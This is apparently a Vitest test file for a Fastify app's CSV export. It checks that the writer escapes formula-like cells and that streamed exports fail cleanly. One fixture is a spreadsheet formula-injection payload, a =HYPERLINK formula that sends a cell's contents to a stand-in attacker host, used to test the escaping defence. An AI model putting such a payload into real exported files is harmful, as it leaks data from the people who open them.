import { Writable } from 'node:stream';
import Fastify from 'fastify';
import { describe, expect, it } from 'vitest';
import { registerErrorHandling } from '../plugins/errors.ts';
import { csvText, fromCsvCell, sendCsvStream } from './csv.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

describe('the CSV writer', () => {
  it('writes a cell a spreadsheet would run as a formula as text, and reads it back unchanged', () => {
    const cells = [
      HYPERLINK,
      '+cmd',
      '-2+3',
      '@SUM(A1)',
      '\tx',
      '\rx',
      "'=already quoted",
      'Plain',
      '- dash',
    ];
    const text = csvText([cells], { columns: cells.map((_, i) => `c${i}`) });
    const [, row] = text.replace(/^\uFEFF/, '').split('\n');
    expect(row).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'+cmd,'-2+3,'@SUM(A1),'\tx,"'\rx",''=already quoted,Plain,'- dash`,
    );
    const back = cells.map((c) => fromCsvCell(`'${c}`));
    expect(back.slice(0, 7)).toEqual(cells.slice(0, 7));
    expect(back[8]).toBe('- dash');
    // A cell the writer did not touch reads as written.
    expect(fromCsvCell("'Plain")).toBe("'Plain");
    expect(fromCsvCell('Plain')).toBe('Plain');
  });

  it('leaves numbers as numbers, negative ones too (a credit note in the GST summary)', () => {
    const text = csvText([[-12.5, '-12.50', '+919876543210', 42, null]], {
      columns: ['a', 'b', 'c', 'd', 'e'],
    });
    expect(text.replace(/^\uFEFF/, '').split('\n')[1]).toBe('-12.5,-12.50,+919876543210,42,');
  });
});

/** A server whose one route streams rows that fail after `before` rows (after a pause, so the body has started). */
async function streamingApp(before: number, logs: string[]) {
  const app = Fastify({
    logger: {
      level: 'info',
      stream: new Writable({
        write(chunk, _enc, done) {
          logs.push(String(chunk));
          done();
        },
      }),
    },
  });
  registerErrorHandling(app);
  app.get('/export.csv', (_req, reply) =>
    sendCsvStream(
      reply,
      'x.csv',
      (async function* () {
        for (let i = 0; i < before; i++) yield [`row ${i}`];
        await new Promise((r) => setTimeout(r, 50));
        throw Object.assign(new Error('date/time field value out of range: "0000-02-29"'), { code: '22008' });
      })(),
      ['name'],
    ),
  );
  await app.ready();
  return app;
}

describe('a streamed CSV that fails', () => {
  it('before its first row: the error envelope, no attachment, and the server lives on', async () => {
    const logs: string[] = [];
    const app = await streamingApp(0, logs);
    const res = await app.inject({ method: 'GET', url: '/export.csv' });
    expect(res.statusCode).toBe(500);
    expect(res.headers['content-type']).toContain('application/json');
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.json()).toMatchObject({
      success: false,
      error: { code: 'INTERNAL' },
      requestId: expect.any(String),
    });
    expect((await app.inject({ method: 'GET', url: '/export.csv' })).statusCode).toBe(500);
    await app.close();
  });

  it('after its first rows: the reply is cut short and the error logged with the request id', async () => {
    const logs: string[] = [];
    const app = await streamingApp(3, logs);
    const res = await app.inject({ method: 'GET', url: '/export.csv' }).catch((e: Error) => e);
    // The client sees the connection cut (light-my-request: a reset), never what looks like a complete CSV.
    expect(res).toMatchObject({ code: 'LIGHT_ECONNRESET' });
    const line = logs.map((l) => JSON.parse(l)).find((l) => l.level >= 50 && l.err?.code === '22008');
    expect(line).toMatchObject({ reqId: expect.any(String), msg: expect.stringContaining('aborted') });
    await app.close();
  });
});
